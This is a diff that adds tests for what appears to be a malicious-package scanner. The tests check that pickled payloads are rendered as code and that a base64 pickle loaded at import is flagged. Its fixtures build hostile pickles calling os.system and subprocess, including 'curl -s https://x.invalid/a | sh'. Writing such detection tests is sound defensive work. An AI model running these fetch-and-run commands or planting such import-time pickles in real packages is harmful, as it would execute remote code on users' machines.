@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import gzip
 import io
 import marshal
@@ -159,3 +160,52 @@ def test_a_compiled_module_is_read_for_its_strings_without_loading_it() -> None:
     broken = analyze_compiled(b"not bytecode", "pkg/x.pyc", "pkg.x", PythonAnalyzer(Limits()),
                               is_package=False)
     assert [p.kind for p in broken.problems] == [ProblemKind.UNPARSABLE]
+
+
+# -- pickled data that a package's code loads -------------------------------------------------
+
+
+def test_render_pickle_gives_the_calls_as_code() -> None:
+    from capwatch.lang.serialized import render_pickle
+
+    data = pickle.dumps([_Runs(subprocess.Popen, ["sh", "-c", "id"]), _Runs(os.system, "uname")], 4)
+    text = render_pickle(data, Limits())
+    assert text.splitlines() == [
+        "import os",
+        "import subprocess",
+        "subprocess.Popen('sh', '-c', 'id')",
+        "os.system('uname')",
+    ]
+
+
+def test_render_pickle_of_plain_values_is_not_code() -> None:
+    from capwatch.lang.serialized import render_pickle
+    from capwatch.unpack.decoders import DecodeError
+
+    with pytest.raises(DecodeError):
+        render_pickle(pickle.dumps({"a": [1, 2.5, "x"]}, 4), Limits())
+    with pytest.raises(DecodeError):
+        render_pickle(b"not a pickle at all", Limits())
+
+
+def test_render_pickle_stops_at_the_opcode_limit() -> None:
+    from capwatch.lang.serialized import render_pickle
+
+    data = pickle.dumps([_Runs(os.system, "first")] + [1] * 500 + [_Runs(os.system, "late")], 4)
+    text = render_pickle(data, Limits(pickle_opcodes=40))
+    assert "os.system('first')" in text and "late" not in text
+
+
+def test_pickle_loaded_from_a_literal_runs_at_import() -> None:
+    blob = base64.b64encode(pickle.dumps(_Runs(os.system, "curl -s https://x.invalid/a | sh"), 4))
+    module = f'import base64, pickle\nstate = pickle.loads(base64.b64decode("{blob.decode()}"))\n'
+    result = scan_bytes(sdist_bytes({"warm/__init__.py": module}), "warm-1.0.tar.gz")
+    assert result.verdict is Verdict.MALICIOUS
+    assert any(f.rule == "CW101" and "pickle.loads" in f.message for f in result.findings)
+
+
+def test_pickle_of_plain_values_loaded_from_a_literal_is_clean() -> None:
+    blob = base64.b64encode(pickle.dumps({"version": 3, "names": OrderedDict(a=1)}, 4))
+    module = f'import base64, pickle\nDEFAULTS = pickle.loads(base64.b64decode("{blob.decode()}"))\n'
+    result = scan_bytes(sdist_bytes({"tzc/__init__.py": module}), "tzc-1.0.tar.gz")
+    assert result.verdict is Verdict.CLEAN, result.findings
